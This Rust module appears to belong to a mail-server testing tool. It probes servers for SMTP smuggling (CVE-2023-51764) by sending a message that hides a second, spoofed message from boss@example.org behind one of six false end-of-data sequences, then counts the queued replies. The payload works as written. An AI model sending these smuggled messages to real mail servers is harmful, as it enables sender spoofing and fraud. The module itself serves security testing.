//! SMTP smuggling (CVE-2023-51764): a second message behind a false end of data.

use std::time::Duration;

use super::run::Try;
use super::{Attack, attack};
use crate::client::Trouble;

pub(super) const ATTACKS: &[Attack] = &[Attack {
    count: 6,
    rate: 1.0,
    parallel: 2,
    ..attack(
        "smuggling",
        "Hides a second message behind a false end of data such as <LF>.<CR><LF>.",
        25,
        smuggle,
    )
}];

/// What some servers take for the end of data, though it is not `<CR><LF>.<CR><LF>`.
const FALSE_ENDS: [(&str, &str); 6] = [
    ("LF.LF", "\n.\n"),
    ("LF.CRLF", "\n.\r\n"),
    ("CRLF.LF", "\r\n.\n"),
    ("CR.CRLF", "\r.\r\n"),
    ("CRLF.CR", "\r\n.\r"),
    ("CR.CR", "\r.\r"),
];

fn smuggle(attempt: &Try<'_>) -> Result<(), Trouble> {
    let (name, end) = FALSE_ENDS.get(attempt.n % FALSE_ENDS.len()).copied().unwrap_or_default();
    let mut smtp = attempt.smtp(25)?;
    smtp.reply()?;
    for command in [
        format!("EHLO out{}.rogue.example", attempt.n),
        "MAIL FROM:<a@rogue.example>".into(),
        "RCPT TO:<pia@example.org>".into(),
    ] {
        smtp.command(&command)?;
    }
    let reply = smtp.command("DATA")?;
    attempt.reply(&reply);
    if reply.code != 354 {
        smtp.quit();
        return Ok(());
    }
    let text = format!(
        "Subject: outer\r\n\r\nhello{end}MAIL FROM:<boss@example.org>\r\nRCPT TO:<pia@example.org>\r\nDATA\r\n\
         Subject: inner\r\n\r\npay\r\n.\r\n"
    );
    smtp.conn.send(text.as_bytes())?;
    smtp.conn.set_patience(Duration::from_secs(3));
    let mut queued = 0;
    while let Ok(reply) = smtp.reply() {
        queued += usize::from(reply.text.contains("queued as"));
    }
    if queued > 1 {
        attempt.note(&format!("smuggled {name}"));
    }
    smtp.quit();
    Ok(())
}
